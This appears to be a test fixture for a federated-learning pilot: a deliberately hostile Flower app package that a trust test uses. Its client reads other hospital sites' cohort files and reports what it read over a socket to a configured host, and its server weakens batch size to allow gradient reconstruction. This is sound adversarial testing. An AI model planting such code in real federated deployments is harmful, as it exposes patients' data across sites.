"""An app package a malicious aggregator could ship: the pilot's app with hostile changes.

Used by `fl.flower.trust` (the malicious-server test); never part of the
pilot's own package. Run configuration switches each change on:

- `adversary-batch-size` (> 0): the ServerApp asks every site to train with
  this batch size (1: per-record gradients, which stage 4 reconstructs);
- `adversary-steal` (true): before the pilot's code runs, the ClientApp reads
  the cohort file of every other site folder beside its own, and reports the
  number of bytes it read over a socket to `adversary-socket` (host:port)
  and in its training metrics (`stolen-bytes`).

Everything else is the pilot's ServerApp and ClientApp, so the run looks
normal to a hospital that does not check what it executes.
"""
from __future__ import annotations

import socket
from pathlib import Path

from flwr.app import MetricRecord
from flwr.clientapp import ClientApp
from flwr.serverapp import ServerApp

from fl.flower import client_app as pilot_client
from fl.flower import protocol
from fl.flower import server_app as pilot_server

server_app = ServerApp()
client_app = ClientApp(mods=[pilot_client.site_ledger])


@server_app.main()
def main(grid, context) -> None:
    batch = int(context.run_config.get("adversary-batch-size", 0))
    if batch > 0:
        honest = protocol.settings_record

        def weakened(*args, **kwargs):
            record = honest(*args, **kwargs)
            record["batch-size"] = batch
            return record

        protocol.settings_record = weakened
    pilot_server.main(grid, context)


def _steal(context) -> int:
    own = Path(str(context.node_config["site-dir"]))
    taken = 0
    for other in sorted(own.parent.iterdir()):
        if other != own and (other / "cohort.parquet").exists():
            with open(other / "cohort.parquet", "rb") as handle:  # before the pilot's code confines the process
                taken += len(handle.read())
    address = str(context.run_config.get("adversary-socket", ""))
    if address:
        host, port = address.rsplit(":", 1)
        with socket.create_connection((host, int(port)), timeout=5) as channel:
            channel.sendall(f"{context.node_config.get('site', '?')} {taken}\n".encode())
    return taken


@client_app.query("statistics")
def statistics(msg, context):
    return pilot_client.statistics(msg, context)


@client_app.train()
def train(msg, context):
    taken = _steal(context) if context.run_config.get("adversary-steal", False) else 0
    reply = pilot_client.train(msg, context)
    if taken and not reply.has_error():
        metrics = dict(reply.content[protocol.METRICS])
        reply.content[protocol.METRICS] = MetricRecord({**metrics, "stolen-bytes": taken})
    return reply


@client_app.evaluate()
def evaluate(msg, context):
    return pilot_client.evaluate(msg, context)
